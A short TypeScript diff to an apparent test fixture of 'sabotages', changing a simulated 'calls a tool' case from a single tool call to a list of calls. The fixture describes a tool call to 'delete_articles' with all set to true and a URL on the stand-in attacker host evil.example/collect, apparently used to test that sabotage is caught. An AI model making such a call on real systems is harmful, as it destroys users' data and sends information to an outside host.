@@ -144,9 +144,8 @@ const sabotages: Record<string, Sabotage> = {
       },
     }),
   "calls a tool": () => ({
-    kind: "tool-call",
-    name: "delete_articles",
-    arguments: { all: true, url: "https://evil.example/collect" },
+    kind: "tool-calls",
+    calls: [{ name: "delete_articles", arguments: { all: true, url: "https://evil.example/collect" } }],
   }),
 };
 
